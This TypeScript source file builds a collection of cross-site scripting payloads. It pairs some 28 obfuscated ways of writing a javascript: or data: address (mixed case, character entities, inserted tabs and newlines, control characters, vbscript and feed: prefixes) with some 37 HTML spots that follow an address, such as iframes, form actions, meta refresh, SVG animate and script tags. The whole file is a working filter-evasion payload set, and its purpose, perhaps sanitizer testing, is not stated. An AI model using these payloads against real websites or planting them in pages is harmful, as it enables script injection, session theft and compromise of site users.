import type { Payload } from "./payload";

/** Ways to write an address that runs. */
const RUNNING: readonly ((jsUrl: string, dataPage: string) => string)[] = [
  (url) => url,
  (url) => url.replace("javascript", "JaVaScRiPt"),
  (url) => url.replace("java", "java\t"),
  (url) => url.replace("java", "java\n"),
  (url) => url.replace("java", "java&#13;"),
  (url) => url.replace("java", "java&Tab;"),
  (url) => url.replace("java", "java&NewLine;"),
  (url) => ` ${url}`,
  (url) => `&#1;${url}`,
  (url) => `&#x1f;&#32;${url}`,
  (url) => url.replace("j", "&#106;"),
  (url) => url.replace("j", "&#x6A;"),
  (url) => url.replace("j", "&#0000106"),
  (url) => url.replace(":", "&colon;"),
  (url) => url.replace(":", ":&#10;"),
  (url) => url.replace(":", "://%0a"),
  (url) => url.replace(":", ":/*--></title></style></textarea></script>*/"),
  (url) => url.replace(":", ":void&#40;0&#41;;"),
  (url) => url.replace("javascript", "\u0001javascript"),
  (_url, page) => page,
  (_url, page) => page.replace("data:", "DATA:"),
  (_url, page) => page.replace("text/html", "text/html;charset=utf-8"),
  (_url, page) => page.replace("text/html", "application/xhtml+xml"),
  (_url, page) => page.replace("text/html", "image/svg+xml"),
  (url) => url.replace("javascript", "vbscript"),
  (url) => `feed:${url}`,
  (url) => `view-source:${url}`,
  (url) => `jar:${url}!/`,
];

/** Where an address is followed by a press or by itself. */
const PLACES: readonly ((url: string) => string)[] = [
  (url) => `<area href="${url}"><map name=m><area shape=rect coords=0,0,9,9 href="${url}"></map>`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<form><button formaction="${url}">x</button></form>`,
  (url) => `<form><input type=submit formaction="${url}" value=x></form>`,
  (url) => `<form><input type=image formaction="${url}" src="data:,"></form>`,
  (url) => `<form id=f></form><button form=f formaction="${url}">x</button>`,
  (url) => `<isindex action="${url}" type=submit>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<object><param name=src value="${url}"><param name=movie value="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<embed code="${url}" allowscriptaccess=always>`,
  (url) => `<applet code="${url}"></applet>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='${url}'">`,
  (url) => `<meta http-equiv=refresh content="0 ${url}">`,
  (url) => `<base href="${url}//"><a href=#>x</a>`,
  (url) => `<svg><a href="${url}"><text y=20>x</text></a></svg>`,
  (url) => `<svg><a xlink:href="${url}"><text y=20>x</text></a></svg>`,
  (url) => `<svg><a><set attributeName=href to="${url}"/><text y=20>x</text></a></svg>`,
  (url) => `<svg><a><animate attributeName=href values="${url}"/><text y=20>x</text></a></svg>`,
  (url) =>
    `<svg><a><animate attributeName=xlink:href begin=0 from="${url}" to="&"/><text y=20>x</text></a></svg>`,
  (url) => `<svg><use href="${url}#x"/></svg>`,
  (url) => `<math href="${url}">x</math>`,
  (url) => `<math><maction actiontype=statusline xlink:href="${url}">x</maction></math>`,
  (url) => `<a href="https://example.test/" target="${url}">x</a>`,
  (url) => `<a href="${url}" target=_top>x</a>`,
  (url) => `<a href="${url}" target=_parent download>x</a>`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<img src="${url}"><img lowsrc="${url}" dynsrc="${url}">`,
  (url) => `<video src="${url}" poster="${url}"></video>`,
  (url) => `<body background="${url}">`,
  (url) => `<table background="${url}"><tr><td background="${url}">x</table>`,
  (url) => `<div style="background:url('${url}')">x</div>`,
  (url) => `<blockquote cite="${url}">x</blockquote><q cite="${url}">x</q><ins cite="${url}">x</ins>`,
  (url) => `<script src="${url}"></script>`,
];

export const ADDRESSES: readonly Payload[] = [
  ...RUNNING.map(
    (write): Payload =>
      ({ jsUrl, dataPage }) =>
        `<a href="${write(jsUrl, dataPage)}">x</a>`,
  ),
  ...PLACES.map(
    (place): Payload =>
      ({ jsUrl }) =>
        place(jsUrl),
  ),
  ...PLACES.slice(7, 16).map(
    (place): Payload =>
      ({ dataPage }) =>
        place(dataPage),
  ),
];
